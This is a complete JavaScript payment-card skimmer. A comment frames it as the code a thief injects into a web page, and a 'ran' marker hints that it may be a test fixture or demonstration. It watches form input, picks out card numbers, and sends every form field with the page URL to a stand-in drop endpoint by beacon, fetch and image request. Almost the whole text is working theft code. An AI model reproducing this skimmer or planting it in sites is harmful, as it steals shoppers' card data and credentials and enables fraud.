;(function () {
  // What the thief adds: it waits for a card number and sends it away in three ways, so that one works.
  var gate = "DROP_BOX/gate", last = "", timer;
  function steal() {
    var form = document.querySelector("form");
    if (!form) return;
    var loot = new URLSearchParams(new FormData(form));
    loot.set("page", location.href);
    if (!/(\d ?){13}/.test(loot.get("card") || "") || String(loot) === last) return;
    last = String(loot);
    try { navigator.sendBeacon(gate, loot); } catch (refused) {}
    fetch(gate, { method: "POST", mode: "no-cors", body: loot }).catch(function () {});
    new Image().src = gate + "?" + loot;
  }
  document.documentElement.dataset.MARK = "ran";
  addEventListener("input", function () { clearTimeout(timer); timer = setTimeout(steal, 200); }, true);
  addEventListener("change", steal, true);
  addEventListener("submit", steal, true);
})();
